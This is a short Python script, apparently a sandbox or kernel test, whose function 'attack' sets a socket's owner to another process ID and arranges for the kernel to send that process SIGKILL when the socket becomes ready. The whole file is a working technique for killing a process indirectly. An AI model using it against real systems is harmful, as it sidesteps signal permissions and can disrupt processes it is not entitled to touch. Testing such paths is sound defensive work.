"""Have the kernel signal another process when a socket of ours becomes ready."""

import fcntl
import os
import signal
import socket

F_SETSIG = 10


def attack(pid: int) -> str:
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
    fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    theirs.send(b"now")
    return "sent"
